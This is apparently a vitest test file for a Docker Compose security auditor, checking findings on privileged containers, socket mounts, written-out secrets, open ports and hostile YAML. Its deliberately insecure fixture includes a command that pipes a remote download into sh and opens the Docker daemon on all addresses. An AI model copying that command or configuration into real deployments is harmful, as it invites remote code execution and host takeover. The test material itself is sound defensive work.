import { describe, expect, test } from 'vitest';
import { auditCompose, COMPOSE_CHECKS } from '../../../../src/features/audit/domain/files/compose.ts';
import { MISSING, type Neighbours } from '../../../../src/features/audit/domain/files/compose-project.ts';

/** Findings as `id line text`, for one check or all. */
function found(text: string, id?: string): readonly string[] {
  return auditCompose(text, 'compose.yaml')
    .filter((result) => result.state === 'finding' && (id === undefined || result.id === `compose.${id}`))
    .flatMap((result) => result.evidence.map(({ line, text: words }) => `${line} ${words}`));
}

const GOOD = `
services:
  web:
    image: nginx:1.27
    user: "1000"
    cap_drop: [ALL]
    cap_add: [NET_BIND_SERVICE, CAP_CHOWN]
    read_only: true
    mem_limit: 256m
    cpus: 0.5
    pids_limit: 100
    security_opt: ["no-new-privileges:true"]
    ports: ["127.0.0.1:8080:80"]
    restart: on-failure:3
    environment:
      DB_PASSWORD: \${DB_PASSWORD}
      DB_PASSWORD_FILE: /run/secrets/db
    healthcheck: { test: [CMD, curl, -f, http://localhost] }
    networks: [apart]
networks:
  apart:
    driver_opts: { com.docker.network.bridge.enable_icc: "false" }
`;

const BAD = `services:
  web:
    image: nginx:latest
    user: root
    privileged: "true"
    cap_add: [SYS_ADMIN]
    network_mode: host
    pid: host
    ipc: host
    uts: host
    userns_mode: host
    cgroup_parent: x
    restart: always
    devices: ["/dev/sda:/dev/sda"]
    security_opt:
      - seccomp:unconfined
      - systempaths=unconfined
      - label=disable
      - apparmor=unconfined
    volumes:
      - /var/run/docker.sock:/var/run/docker.sock:ro
      - type: bind
        source: /etc
        target: /host
        bind: { propagation: rshared }
    ports:
      - 443:443
      - { target: 80, published: "80" }
    environment:
      - API_TOKEN=abc
      - "PLAIN=x"
    extends: { file: base.yml, service: web }
    cgroup: host
    oom_kill_disable: true
    logging: { driver: none }
    build: { context: ., privileged: true, dockerfile_inline: FROM a:1 }
    volumes_from: ["container:other"]
    command: sh -c "curl -k https://example.com/x | sh && dockerd -H tcp://0.0.0.0:2375"
networks: { open: }
`;

test('every check passes on the good file and fails on the bad one', () => {
  const [good, bad] = [GOOD, BAD].map((text) => new Map(auditCompose(text, 'c').map(({ id, state }) => [id, state])));
  expect([...(good ?? [])].filter(([, state]) => state !== 'pass')).toEqual([]);
  expect([...(bad ?? [])].filter(([, state]) => state !== 'finding')).toEqual([]);
  expect(good?.size).toBe(COMPOSE_CHECKS.length);
});

test('a capability that is nearly all of root is as grave as in a running container', () => {
  const severity = (name: string) =>
    auditCompose(`services: { a: { cap_add: [${name}] } }`, 'c').find(({ id }) => id === 'compose.5.4')?.severity;
  expect([severity('SYS_ADMIN'), severity('CAP_BPF'), severity('SYS_TIME')]).toEqual(['high', 'high', 'medium']);
});

/** Files beside the Compose file. */
function around(files: Readonly<Record<string, string>>): Neighbours {
  return {
    root: '/project',
    read: (path) => {
      const text = files[path];
      return text === undefined ? { reason: MISSING } : { text };
    },
  };
}

/** A variable in Compose's syntax. */
function braced(text: string): string {
  return ['$', '{', text, '}'].join('');
}

describe('lines and forms', () => {
  test.each([
    ['5.5', ['5 is privileged']],
    ['5.32', ['21 /var/run/docker.sock is mounted on /var/run/docker.sock']],
    ['5.6', ['22 /etc is mounted on /host, writable']],
    ['5.20', ['22 /host has propagation rshared']],
    ['5.8', ['27 publishes port 443', '28 publishes port 80']],
    ['4.10', ['30 API_TOKEN is written out']],
    ['5.13', ['2 can write to its root file system']],
    ['icc', ['39 its containers reach all ports of one another']],
  ])('%s', (id, lines) => {
    expect(found(BAD, id)).toEqual(lines);
  });

  test('variables of mounts count by their defaults, and $HOME is a home', () => {
    const text = `services:
  a:
    volumes:
      - ${braced('SOCK:-/var/run/docker.sock')}:/var/run/docker.sock
      - ${braced('HOME')}/.ssh:/keys:ro
      - ${braced('DATA:-./data')}:/data
      - /run/containerd/containerd.sock:/c.sock
`;
    expect(found(text, '5.32')).toEqual(['4 /var/run/docker.sock is mounted on /var/run/docker.sock']);
    expect(found(text, '5.6')).toEqual([
      `5 ${braced('HOME')}/.ssh is mounted on /keys, read-only`,
      expect.toSay('mounted-writable', '7', '/run/containerd/containerd.sock', '/c.sock'),
    ]);
  });

  test('variables of everything else count by their defaults too, and $$ is no variable', () => {
    const text = `services:
  a:
    image: x:${braced('TAG:-latest')}
    privileged: ${braced('PRIVILEGED:-true')}
    network_mode: ${braced('MODE-host')}
    user: "${braced('USER_ID:-0')}:${braced('GROUP_ID:-0')}"
    ports: ["${braced('PORT:-80')}:8080", "${braced('BIND:-127.0.0.1')}:90:90", "${braced('P')}:1"]
    volumes: ["${braced(`A:-${braced('B:-/etc')}`)}:/host"]
    environment: { A_TOKEN: "${braced('A_TOKEN:-')}", B_TOKEN: "$${braced('B:-c')}" }
`;
    expect(found(text, 'tag')).toEqual([expect.toSay('image-latest-tag-latest', '3')]);
    expect(found(text, '5.5')).toEqual(['4 is privileged']);
    expect(found(text, '5.10')).toEqual([expect.toSay('shares-host-network', '5')]);
    expect(found(text, '4.1')).toEqual(['6 user is 0:0']);
    expect(found(text, '5.8')).toEqual(['7 publishes port 80', '7 publishes port 90']);
    expect(found(text, '5.14')).toEqual([
      expect.toSay('port-open-all-addresses', '7', '80'),
      expect.toSay('port-open-all-addresses', '7', braced('P')),
    ]);
    expect(found(text, '5.6')).toEqual([expect.toSay('mounted-writable', '8', '/etc', '/host')]);
    expect(found(text, '4.10')).toEqual(['9 B_TOKEN is written out']);
  });

  test('a named volume that is a directory of the host is judged as one', () => {
    const text = `services:
  a:
    volumes: [root:/host, data:/data, { type: volume, source: root, target: /again }]
volumes:
  data: {}
  root: { driver_opts: { type: none, o: "ro,bind", device: / } }
`;
    expect(found(text, '5.6')).toEqual([
      expect.toSay('mounted-writable-2', '3', '/host'),
      expect.toSay('mounted-writable-2', '3', '/again'),
    ]);
  });

  test('a file that only includes others says so', () => {
    expect(() => auditCompose('include: [a.yml]\n', 'c')).toThrow(expect.toSay('includes-yml-not-read-2'));
  });

  test('the value of a secret is never shown', () => {
    expect(
      JSON.stringify(auditCompose('services:\n  a:\n    environment: { DB_PASSWORD: hunter2 }\n', 'c')),
    ).not.toContain('hunter2');
  });

  test('anchors, merges and extends are followed', () => {
    const text = `
x-safe: &safe
  user: "1000"
  read_only: true
services:
  base:
    privileged: true
    user: "1"
    read_only: true
  merged:
    <<: *safe
  merged2:
    <<: [*safe, { mem_limit: 1g }]
  child:
    extends: { service: base }
`;
    expect(found(text, '4.1')).toEqual([]);
    expect(found(text, '5.13')).toEqual([]);
    expect(found(text, '5.5')).toEqual(['7 is privileged', '7 is privileged']);
    expect(
      auditCompose(text, 'c')
        .find(({ id }) => id === 'compose.5.11')
        ?.evidence.map(({ place }) => place),
    ).not.toContain('service merged2');
  });

  test('merged variables are looked at, and what a service extends is added to its own', () => {
    const text = `x-env: &env
  DB_PASSWORD: hunter2
  API_TOKEN: abc
services:
  a:
    environment:
      <<: *env
      API_TOKEN: ${braced('API_TOKEN')}
    security_opt: ["no-new-privileges:true"]
    cap_drop: [ALL]
    devices: ["/dev/sda:/dev/x"]
    volumes: ["/etc:/host", "/root:/r"]
    healthcheck: { test: [NONE] }
  b:
    extends: a
    environment: ["DB_PASSWORD=${braced('DB_PASSWORD')}"]
    security_opt: ["seccomp:unconfined"]
    cap_drop: [MKNOD]
    devices: [{ source: /dev/sdb, target: /dev/x }]
    volumes: ["./data:/host"]
    healthcheck: { test: [CMD, x] }
`;
    expect(found(text, '4.10')).toEqual(['2 DB_PASSWORD is written out']);
    expect(found(text, '5.26')).toEqual([]);
    expect(found(text, 'caps')).toEqual([]);
    expect(found(text, '5.18')).toEqual(['11 has /dev/sda', '19 has /dev/sdb']);
    expect(found(text, '5.6')).toEqual([
      expect.toSay('mounted-writable', '12', '/etc', '/host'),
      expect.toSay('mounted-writable', '12', '/root', '/r'),
      expect.toSay('mounted-writable', '12', '/root', '/r'),
    ]);
    expect(found(text, '5.27')).toEqual([expect.toSay('health-check-switched-off', '13')]);
  });

  test('a variable that has to be set is one word, whatever is said where it is missing', () => {
    const text = `services:
  a:
    ports: ["${braced('PORT:?set PORT: any')}:80", "${braced('BIND?')}:81:80"]
    volumes: ["${braced('D:?')}:/d", "${braced(`S:-${braced('T:?x')}`)}/etc:/e"]
    environment: { A_TOKEN: "${braced('A_TOKEN:?x:y')}" }
`;
    expect(found(text, '5.14')).toEqual([expect.toSay('port-open-all-addresses', '3', braced('PORT'))]);
    expect(found(text, '5.6')).toEqual([]);
    expect(found(text, '4.10')).toEqual([]);
  });

  test('the socket may come without a mount, and a secret by a build argument', () => {
    const text = `services:
  a:
    use_api_socket: true
    build:
      context: .
      args: { NPM_TOKEN: abc, OTHER_TOKEN: "${braced('OTHER_TOKEN')}" }
  b: { build: { args: [NPM_TOKEN, "GIT_TOKEN=x"] }, use_api_socket: false }
`;
    expect(found(text, '5.32')).toEqual([expect.toSay('given', '3', 'use_api_socket')]);
    expect(found(text, '4.10')).toEqual([
      expect.toSay('build-argument-written-out', '6', 'NPM_TOKEN'),
      expect.toSay('build-argument-written-out', '7', 'GIT_TOKEN'),
    ]);
  });

  test('the socket is known by its name where its directory is not', () => {
    const text = `services:
  a:
    volumes:
      - ${braced('XDG_RUNTIME_DIR')}/docker.sock:/s
      - $HOME/docker.sock:/h
      - { type: bind, source: $RUN/docker.sock, target: /t }
      - '\\\\.\\pipe\\docker_engine:\\\\.\\pipe\\docker_engine'
      - npipe:////./pipe/docker_engine:/d
      - { type: npipe, source: '\\\\.\\pipe\\docker_engine', target: /n }
      - $RUN/docker.socks:/no
networks:
  old: { external: { name: x } }
`;
    expect(found(text, '5.32').map((words) => Number.parseInt(words, 10))).toEqual([5, 6, 4, 7, 8, 9]);
    expect(found(text, 'icc')).toEqual([]);
  });

  test('ports without a host side are published on all addresses', () => {
    const text =
      'services:\n  a:\n    ports:\n      - "80"\n      - 81/udp\n      - { target: 82 }\n      - "127.0.0.1::83"\n';
    expect(found(text, '5.14')).toEqual(
      [80, 81, 82].map((port, index) => expect.toSay('chosen-port-open', index + 4, port)),
    );
    expect(found(text, '5.8')).toEqual([]);
  });

  test('a password in an address is a secret', () => {
    const text = `services:
  a:
    environment:
      DATABASE_URL: postgres://app:hunter2@db/app
      CACHE_URL: redis://:${braced('CACHE_PASSWORD')}@cache
      PGPASSWORD: hunter2
      HOME_URL: https://example.com/a:b@c
`;
    expect(found(text, '4.10')).toEqual([
      expect.toSay('password-address-written-out', '4', 'DATABASE_URL'),
      '6 PGPASSWORD is written out',
    ]);
  });

  test.each([
    ['services:\n  a: {}\n  b: {}\n', ['2 its containers reach all ports of one another']],
    ['services:\n  a: {}\n  b: { network_mode: none }\n', []],
    [
      'services:\n  a: {}\n  b: {}\nnetworks:\n  default:\n    driver_opts: { com.docker.network.bridge.enable_icc: "false" }\n',
      [],
    ],
  ])('the network that Compose makes by itself counts: %j', (text, lines) => {
    expect(found(text, 'icc')).toEqual(lines);
  });

  test('deploy limits count', () => {
    const text = 'services:\n  a:\n    deploy: { resources: { limits: { memory: 1g, cpus: "1", pids: 5 } } }\n';
    expect([...found(text, '5.11'), ...found(text, '5.12'), ...found(text, '5.29')]).toEqual([]);
  });
});

describe('hostile files', () => {
  const laughs = Array.from(
    { length: 30 },
    (_, index) =>
      `a${index}: &a${index} [${Array(10)
        .fill(index === 0 ? 'x' : `*a${index - 1}`)
        .join(', ')}]`,
  ).join('\n');
  test.each([
    ['no YAML', 'services: [', /./],
    ['a list', '- a', /no services/],
    ['empty', '', /no services/],
    ['no services', 'services: {}', /no services/],
    ['a key twice', 'services:\n  a: {}\n  a: {}\n', /unique/],
    ['deep nesting', `services: ${'['.repeat(5000)}`, /nested/],
    ['deep block nesting', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n'), /nested/],
    ['too many entries', `services:\n  a:\n    cap_add: [${'x, '.repeat(2001)}]`, /more than 2000 entries/],
    ['too large', `#${'x'.repeat(1_100_000)}`, /too large/],
  ])('%s is an error with its place', (_name, text, message) => {
    expect(() => auditCompose(text, 'c.yaml')).toThrow(
      expect.objectContaining({ name: 'DockerTlsErrors', message: expect.stringMatching(message) }),
    );
  });

  test.each([
    ['aliases that double', `${laughs}\nservices:\n  a:\n    cap_add: *a29\n    environment: *a29\n`],
    ['a service that is itself', 'services:\n  a: &a\n    <<: *a\n    extends: a\n'],
    ['services that extend each other', 'services:\n  a: { extends: b }\n  b: { extends: { service: a } }\n'],
    [
      'odd values',
      'services:\n  a: null\n  b: 3\n  c: { volumes: 3, ports: [null, {}, []], environment: [[]], user: [], image: {} }\n',
    ],
    ['one word of a megabyte', `services:\n  a:\n    image: ${'a'.repeat(1_000_000)}\n`],
    [
      'variables that many services share, and inherit',
      `x-e: &e { ${Array.from({ length: 1000 }, (_, n) => `K${n}: v`).join(', ')} }\nservices:\n${Array.from({ length: 300 }, (_, n) => `  s${n}:\n    extends: s${n + 1}\n    environment: *e\n`).join('')}`,
    ],
    ['names of objects', 'services:\n  __proto__: { privileged: true }\n  constructor: { cap_add: { toString: 1 } }\n'],
  ])('%s ends soon and without a crash', (_name, text) => {
    expect(auditCompose(text, 'c')).toHaveLength(COMPOSE_CHECKS.length);
  });
});

describe('what is decided elsewhere is not passed', () => {
  const service = (lines: string) => `services:\n  web:\n    image: a:1\n${lines}`;
  test.each([
    [
      '    extends: { file: base.yml, service: web }\n',
      ['4 cannot tell: it extends a service of base.yml: it does not exist'],
    ],
    [`    privileged: \${PRIVILEGED}\n`, [`4 cannot tell: privileged is \${PRIVILEGED}`]],
    [`    privileged: \${PRIVILEGED:-false}\n`, []],
    [`    privileged: \${GIVEN:-false}\n`, []],
    [`    privileged: \${OTHER:+true}\n`, [`4 cannot tell: privileged is \${OTHER:+true}`]],
    ['    cap_add: [$CAP]\n', ['4 cannot tell: cap_add is $CAP']],
    [`    network_mode: \${MODE:?none}\n`, [`4 cannot tell: network_mode is \${MODE:?none}`]],
    [
      `    volumes: ["\${DATA}:/data", "./x:/x", "$HOME/y:/y"]\n`,
      [`4 cannot tell: the source of a volume is \${DATA}`],
    ],
    ['    volumes: ["./x:/$NAME"]\n', []],
    ['    volumes: [{ type: bind, source: $DATA, target: /d }]\n', ['4 cannot tell: the source of a volume is $DATA']],
    [`    ports: ["\${BIND}:2375:2375"]\n`, [`4 cannot tell: the address of a port is \${BIND}`]],
    [`    ports: ["\${BIND:?x}:2375:2375"]\n`, [`4 cannot tell: the address of a port is \${BIND:?x}`]],
    [`    ports: ["\${GIVEN:-127.0.0.1}:80:80"]\n`, []],
    [
      '    env_file: [a.env, { path: b.env, required: false }]\n',
      ['4 cannot tell: variables of a.env: it does not exist'],
    ],
    ['    extends: { service: none }\n', ['4 cannot tell: it extends none, which is not in this file']],
    [
      '    extends: { file: $FILE, service: web }\n',
      ['4 cannot tell: it extends a service of $FILE: a variable decides its name'],
    ],
    ['    extends: web\n', ['4 cannot tell: it extends itself, by web']],
    ['    security_opt: ["seccomp:./p.json"]\n', ['4 cannot tell: its seccomp profile ./p.json: it does not exist']],
    [
      'include: [{ path: "https://example.com/c.yaml" }]\n',
      ['4 cannot tell: it includes https://example.com/c.yaml: it is on another machine'],
    ],
    ['include: [c]\n', ['4 cannot tell: c includes itself']],
    [`    ports: [{ host_ip: $BIND, published: 80, target: 80 }]\n`, ['4 cannot tell: the address of a port is $BIND']],
    [`    ports: ["127.0.0.1:\${PORT:?x}:80", "[::1]:$PORT:80", "\${PORT}:80", "\${BIND:-127.0.0.1}:80:80"]\n`, []],
    [
      `    volumes: [data:/d]\nvolumes: { data: { driver_opts: { o: bind, device: "\${DATA}" } } }\n`,
      [`5 cannot tell: its device is \${DATA}`],
    ],
    [
      `volumes: { data: { driver_opts: { o: "rw,\${OPTS}", device: tmpfs } } }\n`,
      [`4 cannot tell: an option of its mount is \${OPTS}`],
    ],
    [`volumes: { data: { driver_opts: { type: nfs, o: "addr=$NFS,$OPTS", device: ":/srv/$DATA" } } }\n`, []],
    [`volumes: { data: { driver_opts: { type: tmpfs, o: "size=$SIZE", device: tmpfs } } }\n`, []],
    ['    command: echo $$HOME $OTHER\n    environment: { DB_PASSWORD: $DB_PASSWORD }\n', []],
  ])('%j', (lines, wanted) => {
    const text = service(lines);
    const unread = auditCompose(text, 'c', around({ '.env': 'GIVEN=false', c: text })).find(
      ({ id }) => id === 'compose.unread',
    );
    expect(unread?.evidence.map(({ line, text }) => `${line} ${text}`)).toEqual(wanted);
    expect(unread?.state).toBe(wanted.length === 0 ? 'pass' : 'finding');
  });

  test('files that are included beside services', () => {
    const text = `include:\n  - a.yml\n  - path: [b.yml, c.yml]\n${service('')}`;
    expect(found(text, 'unread')).toEqual([
      expect.toSay('included-not-read', 2, 'a.yml'),
      expect.toSay('included-not-read', 3, 'b.yml'),
      expect.toSay('included-not-read', 3, 'c.yml'),
    ]);
  });

  test('a default that holds a secret is one, whatever .env says', () => {
    const text = service(`    environment: { DB_PASSWORD: "\${GIVEN:-hunter2}" }\n`);
    const secrets = auditCompose(text, 'c', around({ '.env': 'GIVEN=x' })).find(({ id }) => id === 'compose.4.10');
    expect(secrets?.state).toBe('finding');
  });

  test('what .env decides is judged, and named with its file, line and service', () => {
    const files = {
      '.env': 'P=true\nSECRET_TOKEN=hunter2\n',
      'base.yaml': `services:\n  base:\n    image: a:1\n    privileged: \${P:-false}\n    volumes: ["../../etc:/e"]\n`,
    };
    const text = service(`    environment: { SECRET_TOKEN: }\n    extends: { file: base.yaml, service: base }\n`);
    const results = auditCompose(text, 'c', { ...around(files), root: '/srv/app' });
    const evidence = (id: string) => results.find((result) => result.id === `compose.${id}`)?.evidence;
    expect(evidence('unread')).toEqual([]);
    expect(evidence('4.10')).toEqual([]);
    const place = { place: 'service web', file: 'base.yaml', severity: undefined };
    expect(evidence('5.5')).toEqual([{ ...place, line: 4, text: 'is privileged' }]);
    expect(evidence('5.6')).toEqual([
      { ...place, line: 5, text: expect.toSay('mounted-writable-3', '../../etc', '/etc', '/e') },
    ]);
  });

  test('an included file is judged as well, from its own directory', () => {
    const files = { 'sub/x.yaml': 'services:\n  x:\n    image: a:1\n    volumes: ["../data:/d", "../../../etc:/e"]\n' };
    const results = auditCompose(`include: [sub/x.yaml]\n${service('')}`, 'c', { ...around(files), root: '/srv/app' });
    const { evidence } = results.find(({ id }) => id === 'compose.5.6') ?? {};
    expect(evidence?.map(({ place, file, line, text }) => [place, file, line, text])).toEqual([
      ['service x', 'sub/x.yaml', 4, expect.toSay('mounted-writable-3', '../../../etc', '/etc', '/e')],
    ]);
  });

  test('a seccomp profile that allows whatever it does not name is none', () => {
    const judged = (action: string) =>
      auditCompose(
        service('    security_opt: ["seccomp=p.json"]\n'),
        'c',
        around({ 'p.json': `{"defaultAction":"${action}"}` }),
      ).find(({ id }) => id === 'compose.5.22')?.state;
    expect([judged('SCMP_ACT_ALLOW'), judged('SCMP_ACT_LOG'), judged('SCMP_ACT_ERRNO')]).toEqual([
      'finding',
      'finding',
      'pass',
    ]);
  });
});
